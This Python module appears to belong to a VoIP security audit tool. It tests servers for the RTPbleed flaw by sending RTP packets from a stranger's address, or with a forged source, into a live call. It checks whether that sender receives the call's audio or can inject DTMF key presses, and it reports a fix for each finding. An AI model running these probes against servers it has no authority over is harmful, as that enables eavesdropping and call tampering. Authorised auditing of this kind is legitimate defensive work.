"""Whether a stranger gets a call's audio, or is heard in it, by sending to its port: RTPbleed (https://www.rtpbleed.com)."""

from __future__ import annotations

import socket
from collections.abc import Callable, Iterator, Sequence
from typing import Final
from urllib.parse import parse_qs

from sipdomain.audit.attacker import Attacker
from sipdomain.audit.calls import TakenCall, calling
from sipdomain.audit.canary import Reply, Visit, arrived, web_canary
from sipdomain.audit.finding import Finding, Severity
from sipdomain.audit.forged import cannot_forge, send_from
from sipdomain.audit.lent import lent
from sipdomain.audit.probes.probe import Probe
from sipdomain.audit.rtp import Voice, beats, is_rtp
from sipdomain.audit.wires import udp_at
from sipdomain.sip.outputs import Address

STRANGER: Final = "127.0.0.66"
"""From where a stranger sends, on loopback; else from another port of this machine."""
_HIJACK: Final = "A stranger gets the audio of a call by sending to its port"
_EARLY: Final = "A stranger who sends before the caller gets the audio of a call"
_KEYS: Final = "A stranger's keys are taken in a call"
_FORGED: Final = "Keys in packets with a forged source are taken in a call"
_MEND: Final = "Hear the agreed address only, learn another one from the caller's host alone, or use SRTP."
_GATHER: Final = '<Response><Gather numDigits="1" timeout="4" action="/keys"/><Hangup/></Response>'


def run(attacker: Attacker) -> Iterator[Finding]:
    """Call, and let a stranger send beside the caller, before the caller, and press keys."""
    for what, is_early in ((_HIJACK, False), (_EARLY, True)):
        if is_early and not attacker.target.is_loopback:
            yield Finding(
                "media",
                "could not tell",
                "medium",
                f"{what}: only loopback has a second address of ours, by IPv4",
            )
            continue
        with calling(attacker) as call:
            yield _listened(attacker, call, what, is_early=is_early)
    yield _pressed(attacker, _KEYS, "high", _by_a_stranger)
    if why := cannot_forge(attacker.target):
        yield Finding("media", "could not tell", "info", f"{_FORGED}: {why}")
        return
    yield _pressed(attacker, _FORGED, "info", _by_a_forger)


def _listened(attacker: Attacker, call: TakenCall, what: str, *, is_early: bool) -> Finding:
    severity: Severity = "medium" if is_early else "high"
    media = call.media
    if not call.is_up or media is None:
        refused = (f"INVITE: {call.answer.words}",)
        return Finding("media", "could not tell", severity, f"{what}: no call with audio was taken", refused)
    ours, theirs = Voice(), Voice()
    with _stranger(attacker) as stranger:
        for _ in beats(0.2 if not is_early else 0.0):
            call.rtp.sendto(ours.silence(), media)
        for _ in beats(0.5):
            if not is_early:
                call.rtp.sendto(ours.silence(), media)
            stranger.sendto(theirs.silence(), media)
        stolen = sum(map(is_rtp, arrived(stranger, 0.2)))
        kept = sum(map(is_rtp, arrived(call.rtp, 0.05)))
        where = f"{stranger.getsockname()[0]}:{stranger.getsockname()[1]}"
    evidence = (f"RTP that came to the caller: {kept}", f"RTP that came to {where}: {stolen}")
    if stolen:
        return Finding("media", "found", severity, what, evidence, _MEND)
    if not kept:
        why = f"{what}: the server sent no audio"
        mend = "Let the extension speak for some seconds."
        return Finding("media", "could not tell", severity, why, evidence, mend)
    return Finding("media", "clean", severity, what, evidence)


def _stranger(attacker: Attacker) -> socket.socket:
    return udp_at(STRANGER if attacker.target.is_loopback else attacker.host)


Presser = Callable[[Attacker, TakenCall, Address], str]


def _by_a_stranger(attacker: Attacker, _call: TakenCall, media: Address) -> str:
    voice = Voice()
    with _stranger(attacker) as stranger:
        for _, packet in zip(beats(1.0), voice.key("7"), strict=False):
            stranger.sendto(packet, media)
    return ""


def _by_a_forger(_: Attacker, call: TakenCall, media: Address) -> str:
    host, port = call.rtp.getsockname()[:2]
    voice, failed = Voice(), ""
    for _beat, packet in zip(beats(1.0), voice.key("7"), strict=False):
        failed = failed or send_from(host, port, media, packet)
    return failed


def _pressed(attacker: Attacker, what: str, severity: Severity, press: Presser) -> Finding:
    """Call a domain of our own that gathers a key: somebody else presses 7, then the caller 8; the first one counts."""
    rest = attacker.target.rest
    if rest is None:
        return Finding("media", "not run", severity, what, mend="Name the target's REST API with --rest.")

    def gathering(visit: Visit) -> Reply:
        return Reply() if visit.path.startswith("/keys") else Reply(body=_GATHER)

    with (
        web_canary(attacker.host, gathering) as canary,
        lent(attacker, rest, f"{canary.url}/voice") as domain,
    ):
        if domain.refused:
            return Finding("media", "could not tell", severity, f"{what}: no domain", (domain.refused,))
        with calling(domain.caller) as call:
            media = call.media
            if not call.is_up or media is None:
                refused = (f"INVITE: {call.answer.words}",)
                return Finding("media", "could not tell", severity, f"{what}: no call was taken", refused)
            ours = Voice()
            for _ in beats(0.1):
                call.rtp.sendto(ours.silence(), media)
            failed = press(attacker, call, media)
            for _, packet in zip(beats(1.0), ours.key("8"), strict=False):
                call.rtp.sendto(packet, media)
            digits = _digits(canary.wait(2, attacker.target.webhook_patience))
    evidence = (f"7 pressed by somebody else, then 8 by the caller: the server took {digits or 'none'}",)
    if failed or not digits:
        return Finding(
            "media", "could not tell", severity, f"{what}: {failed or 'no key was taken'}", evidence
        )
    if digits == "7":
        return Finding("media", "found", severity, what, evidence, _MEND)
    return Finding("media", "clean", severity, what, evidence)


def _digits(visits: Sequence[Visit]) -> str:
    for visit in visits:
        form = parse_qs(visit.body)
        if visit.path.startswith("/keys") and form.get("Digits"):
            return form["Digits"][0]
    return ""


PROBE: Final = Probe("media", "audio that a stranger gets, and keys that a stranger presses", run)
